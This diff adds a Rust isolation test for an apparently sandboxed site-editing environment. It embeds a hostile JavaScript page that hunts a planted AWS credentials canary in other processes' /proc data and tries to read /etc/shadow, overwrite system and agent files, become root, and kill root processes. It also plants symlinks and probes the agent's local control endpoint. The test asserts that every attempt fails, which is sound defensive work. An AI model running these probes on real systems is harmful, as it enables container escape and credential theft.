@@ -1,0 +1,169 @@
+//! A site that wants everything that is not its own. What it tries is written anew here, in its own language: the agent's proof and this
+//! story know nothing of each other.
+
+use serde_json::{Value, json};
+
+use crate::session::STOP_TIME_MAX;
+use crate::town::Town;
+
+/// What a task of ECS is told, and nobody else may know.
+const CANARY: &str = "/v2/credentials/c0ffee00-4a11-4b0b-9d3e-5eaf00d5eaf0";
+
+const PAGE: &str = r#"
+import fs from "node:fs";
+import path from "node:path";
+import net from "node:net";
+import { spawnSync } from "node:child_process";
+
+const CANARY = ["c0ffee00", "4a11", "4b0b", "9d3e", "5eaf00d5eaf0"].join("-");
+
+export async function GET() {
+  const won = [];
+  const found = [];
+  const attempt = (what, deed) => {
+    try {
+      deed();
+      won.push(what);
+    } catch {}
+  };
+  const look = (where, bytes) => bytes.includes(CANARY) && found.push(where);
+
+  // Itself, and whoever else is there.
+  look("the environment", Buffer.from(JSON.stringify(process.env)));
+  for (const name of Object.keys(process.env)) if (/^(AWS|ECS|SESSION|CLIENT|GENERATION)/.test(name)) won.push(`variable ${name}`);
+  const processes = fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name)).map(Number);
+  const uid = (pid) => { try { return fs.statSync(`/proc/${pid}`).uid; } catch { return -1; } };
+  const others = processes.filter((pid) => uid(pid) === 0);
+  for (const pid of processes) {
+    for (const part of ["environ", "cmdline", "comm", "status"]) {
+      try { look(`/proc/${pid}/${part}`, fs.readFileSync(`/proc/${pid}/${part}`)); } catch {}
+    }
+    try {
+      for (const fd of fs.readdirSync(`/proc/${pid}/fd`)) {
+        try { look(`/proc/${pid}/fd/${fd}`, Buffer.from(fs.readlinkSync(`/proc/${pid}/fd/${fd}`))); } catch {}
+      }
+    } catch {}
+  }
+  for (const pid of others) {
+    for (const part of ["environ", "mem", "maps", "auxv"]) {
+      attempt(`read /proc/${pid}/${part}`, () => fs.readSync(fs.openSync(`/proc/${pid}/${part}`, "r"), Buffer.alloc(1)));
+    }
+    attempt(`list /proc/${pid}/fd`, () => fs.readdirSync(`/proc/${pid}/fd`));
+    attempt(`follow /proc/${pid}/root`, () => fs.readdirSync(`/proc/${pid}/root/`));
+    for (const signal of [0, "SIGCONT", "SIGUSR1", "SIGTERM", "SIGKILL"]) attempt(`signal ${pid} with ${signal}`, () => process.kill(pid, signal));
+  }
+
+  // What lies around its own folder.
+  const workspace = path.dirname(process.cwd());
+  const state = path.resolve(workspace, "../../..");
+  const closed = [
+    "draft.git", "draft.git/HEAD", "draft.git/config", "journal.json", "staging/clone", "homes/editor", "../lock", "../running.json",
+  ].map((name) => path.join(workspace, name)).concat([path.join(state, "store"), path.join(state, "edit.sqlite")]);
+  for (const name of closed) {
+    attempt(`read ${name}`, () => fs.readFileSync(name));
+    attempt(`list ${name}`, () => fs.readdirSync(name));
+    attempt(`write ${name}`, () => fs.closeSync(fs.openSync(name, "r+")));
+    attempt(`give ${name} to itself`, () => fs.chmodSync(name, 0o777));
+    attempt(`move ${name}`, () => fs.renameSync(name, `${name}-moved`));
+  }
+  for (const name of [workspace, state, "/", "/etc", "/usr/local/bin", "/proc/1"]) {
+    attempt(`make something in ${name}`, () => fs.mkdirSync(path.join(name, "made")));
+    attempt(`list ${name} of the agent's`, () => { if (name === workspace || name === state) fs.readdirSync(name); else throw 0; });
+  }
+  for (const name of ["runner.mjs"]) {
+    const whole = path.join(workspace, name);
+    attempt(`write ${whole}`, () => fs.closeSync(fs.openSync(whole, "r+")));
+    attempt(`replace ${whole}`, () => fs.renameSync(path.join(process.env.HOME, ".."), whole));
+    attempt(`remove ${whole}`, () => fs.rmSync(whole));
+  }
+  for (const name of ["/usr/local/bin/edit-agent", "/usr/local/bin/edit-init", "/etc/passwd", "/etc/shadow"]) {
+    attempt(`write ${name}`, () => fs.closeSync(fs.openSync(name, "r+")));
+  }
+  attempt("read /etc/shadow", () => fs.readFileSync("/etc/shadow"));
+  // By way of a link, in case somebody follows it for us.
+  for (const [name, to] of [["public/git", path.join(workspace, "draft.git")], ["public/environ", "/proc/1/environ"]]) {
+    try { fs.symlinkSync(to, name); } catch {}
+    attempt(`read ${to} by a link`, () => { const at = fs.realpathSync(name); if (fs.statSync(at).isDirectory()) fs.readdirSync(at); else fs.readFileSync(at); });
+  }
+
+  // Everything that it can read of what is written while a container runs.
+  const search = (folder, depth) => {
+    let entries = [];
+    try { entries = fs.readdirSync(folder, { withFileTypes: true }); } catch { return; }
+    for (const entry of entries) {
+      const whole = path.join(folder, entry.name);
+      if (entry.isDirectory() && entry.name !== "node_modules" && depth < 8) search(whole, depth + 1);
+      else if (entry.isFile()) { try { if (fs.statSync(whole).size < 1 << 20) look(whole, fs.readFileSync(whole)); } catch {} }
+    }
+  };
+  for (const folder of ["/tmp", "/run", "/var", "/dev/shm", "/workspace", workspace, process.env.HOME]) search(folder, 0);
+
+  // To become somebody else.
+  for (const [what, deed] of [["setuid", () => process.setuid(0)], ["setgid", () => process.setgid(0)], ["setgroups", () => process.setgroups([0])]]) attempt(what, deed);
+  const status = fs.readFileSync("/proc/self/status", "utf8");
+  const field = (name) => status.match(new RegExp(`^${name}:\\s*(.*)$`, "m"))[1].trim();
+  for (const name of ["CapInh", "CapPrm", "CapEff", "CapAmb"]) if (!/^0+$/.test(field(name))) won.push(`${name} ${field(name)}`);
+  if (field("NoNewPrivs") !== "1") won.push("new privileges");
+  for (const program of ["su", "mount", "newgrp", "passwd"]) {
+    const ended = spawnSync(program, program === "su" ? ["-c", "true"] : ["/proc"], { timeout: 5000, input: "" });
+    if (ended.status === 0) won.push(`run ${program}`);
+  }
+  const core = fs.readFileSync("/proc/self/limits", "utf8").match(/^Max core file size\s+(\S+)/m)[1];
+  if (core !== "0") won.push(`core dumps of ${core}`);
+
+  // The agent's own door.
+  const ask = (line) => new Promise((done) => {
+    const socket = net.connect(8080, "127.0.0.1", () => socket.write(`${line} HTTP/1.1\r\nHost: edit.amelia.localhost\r\nContent-Length: 2\r\nConnection: close\r\n\r\n[]`));
+    let said = "";
+    socket.on("data", (data) => (said += data)).on("error", () => done("")).on("close", () => done(said.split(" ")[1] ?? ""));
+  });
+  for (const line of ["GET /_edit/status", "GET /_edit/events", "GET /_edit/history", "POST /_edit/instructions", "GET /"]) {
+    const code = await ask(line);
+    if (code !== "421") won.push(`${line} answered ${code}`);
+  }
+  return new Response(JSON.stringify({ won, found, uid: process.getuid(), groups: process.getgroups(), others: others.length }));
+}
+"#;
+
+#[test]
+fn a_hostile_site_gets_nothing() {
+    let town = Town::with(&[("src/pages/hostile.json.ts", PAGE)]);
+    let environment = town
+        .environment()
+        .processes(512)
+        .variable("AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", CANARY)
+        .start(&town.command("task-1"));
+    let record = town.record_when("row['state'] == 'ready'");
+    assert_eq!(record["isolation"]["users"], true, "{record:#}");
+    // There is no endpoint in this town, so that nothing is known of a boundary, and nothing claimed.
+    assert_eq!(record["isolation"]["boundary"], "unknown", "{record:#}");
+
+    let (status, answer) = town.page("/hostile.json");
+    assert_eq!(status, 200, "{answer}");
+    let body = answer.split_once("\r\n\r\n").map_or("", |(_, body)| body);
+    let from = body.find('{').expect("an object");
+    let to = body.rfind('}').expect("an object");
+    let said: Value =
+        serde_json::from_str(&body[from..=to]).unwrap_or_else(|error| panic!("{error}: {answer}"));
+    assert_eq!(said["won"], json!([]), "{said:#}");
+    assert_eq!(said["found"], json!([]), "{said:#}");
+    assert_eq!(
+        (&said["uid"], &said["groups"]),
+        (&json!(10001), &json!([10000])),
+        "{said:#}"
+    );
+    assert!(
+        said["others"].as_u64() >= Some(2),
+        "it saw nobody to try: {said:#}"
+    );
+
+    // The links that it has put into the site lead nobody anywhere, and what it did keeps nothing from landing.
+    assert_ne!(town.page("/environ").0, 200);
+    town.writes("after", "src/pages/after.md", "# After\n");
+    assert_eq!(town.receipt("after")["status"], "pushed");
+    assert!(environment.is_healthy());
+    let (code, took) = environment.stop(STOP_TIME_MAX);
+    assert!([0, 24].contains(&code), "{code} after {took:?}");
+    let log = environment.lines().join("\n");
+    assert!(!log.contains("c0ffee00"), "the log has it");
+}
